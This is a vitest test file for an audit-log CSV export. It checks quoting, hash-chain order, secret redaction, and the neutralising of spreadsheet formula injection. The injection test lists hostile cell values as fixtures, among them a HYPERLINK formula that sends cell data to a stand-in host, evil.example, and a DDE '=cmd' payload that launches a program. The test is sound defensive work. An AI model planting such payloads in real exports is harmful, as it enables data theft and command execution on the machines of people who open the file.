import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { at } from "../testing/at";
import { createTestDb, type TestDb } from "../testing/test-db";
import { AUDIT_CSV_COLUMNS, auditCsvStream } from "./csv";
import { appendAuditEvent } from "./log";

let t: TestDb;
beforeEach(async () => {
  t = await createTestDb();
});
afterEach(async () => {
  await t.cleanup();
});

/** A minimal RFC 4180 reader (quoted fields, doubled quotes, CRLF) → records keyed by the header (csv-parse is not installed). */
function parse(text: string): Record<string, string>[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted) {
      field += c;
    } else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else {
      field += c;
    }
  }
  const [header = [], ...body] = rows;
  return body.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? ""])));
}

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe("audit CSV export", () => {
  it("writes the header and one quoted row per matching event in chain order, across batches", async () => {
    await appendAuditEvent(
      t.db,
      { id: "u1", email: "ada@noc.local", clientIp: "10.0.0.1", requestId: "r-1" },
      { action: "device.update", entityType: "device", entityId: "d1", before: { note: 'say "hi", bye\nline 2' }, after: { cak: "ab".repeat(16) } },
    );
    for (let i = 0; i < 4; i++) await appendAuditEvent(t.db, null, { action: "change.router_call", entityType: "change", entityId: `cr-${i}` });
    await appendAuditEvent(t.db, null, { action: "auth.login" });
    const text = await readAll(auditCsvStream(t.db, { action: "change." }, 3));
    const records = parse(text) as Record<string, string>[];
    expect(text.split("\r\n")[0]).toBe(AUDIT_CSV_COLUMNS.join(","));
    expect(records.map((r) => r.entityId)).toEqual(["cr-0", "cr-1", "cr-2", "cr-3"]);

    const all = parse(await readAll(auditCsvStream(t.db, {}))) as Record<string, string>[];
    const events = await t.db.auditEvent.findMany({ orderBy: { id: "asc" } });
    expect(all).toHaveLength(6);
    expect(all[0]).toEqual({
      id: String(events[0]?.id),
      ts: events[0]?.ts.toISOString(),
      actorEmail: "ada@noc.local",
      actorId: "u1",
      action: "device.update",
      entityType: "device",
      entityId: "d1",
      clientIp: "10.0.0.1",
      requestId: "r-1",
      before: events[0]?.before,
      after: JSON.stringify({ cak: "[redacted]" }),
      prevHash: events[0]?.prevHash,
      hash: events[0]?.hash,
    });
    expect(JSON.parse(at(all, 0).before ?? "")).toEqual({ note: 'say "hi", bye\nline 2' });
    expect(all[5]).toMatchObject({ action: "auth.login", actorEmail: "", entityType: "", before: "" });
    expect(all[5]?.prevHash).toBe(all[4]?.hash);
  });

  it("writes only the header when nothing matches", async () => {
    await appendAuditEvent(t.db, null, { action: "auth.login" });
    expect(await readAll(auditCsvStream(t.db, { action: "nothing." }))).toBe(`${AUDIT_CSV_COLUMNS.join(",")}\r\n`);
  });

  it("neutralises cells a spreadsheet would run as a formula and leaves ordinary values unchanged", async () => {
    const table: [stored: string, exported: string][] = [
      ['=HYPERLINK("https://evil.example/?d="&A1,"open")', `'=HYPERLINK("https://evil.example/?d="&A1,"open")`],
      ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
      ["+1+1", "'+1+1"],
      ["-1+1", "'-1+1"],
      ["@SUM(1+1)", "'@SUM(1+1)"],
      ["\t=1+1", "'\t=1+1"],
      ["\r=1+1", "'\r=1+1"],
      ["\tplain", "'\tplain"],
      [" =1+1", "' =1+1"],
      ["\n+1", "'\n+1"],
      ["\u00a0@SUM(1)", "'\u00a0@SUM(1)"],
      ["＝1+1", "'＝1+1"],
      ["＋1", "'＋1"],
      ["－1", "'－1"],
      ["＠SUM(1)", "'＠SUM(1)"],
      ["\u3000＝1+1", "'\u3000＝1+1"],
      ["'=1+1", "''=1+1"],
      ["'quoted", "''quoted"],
      ["ada@noc.local", "ada@noc.local"],
      ["device.update", "device.update"],
      ["10.0.0.1", "10.0.0.1"],
      ["2001:db8::1", "2001:db8::1"],
      ["r-1", "r-1"],
      ["x=1+1", "x=1+1"],
      ["1+1", "1+1"],
      ['say "hi", bye', 'say "hi", bye'],
      ["two words", "two words"],
    ];
    for (const [stored] of table)
      await appendAuditEvent(t.db, { email: stored, clientIp: stored, requestId: stored }, { action: "test.cell", entityId: stored });
    const records = parse(await readAll(auditCsvStream(t.db, { action: "test." })));
    expect(records).toHaveLength(table.length);
    for (const column of ["entityId", "actorEmail", "clientIp", "requestId"]) {
      expect(records.map((r, i) => [table[i]?.[0], r[column]])).toEqual(table);
    }
  });

  it("neutralises JSON before/after that would start with a trigger, and leaves numeric ids alone", async () => {
    await appendAuditEvent(t.db, null, { action: "test.json", before: -5, after: { note: "=1+1" } });
    const [record] = parse(await readAll(auditCsvStream(t.db, { action: "test." })));
    expect(record?.before).toBe("'-5");
    expect(record?.after).toBe('{"note":"=1+1"}');
    expect(record?.id).toMatch(/^[0-9]+$/);
  });
});
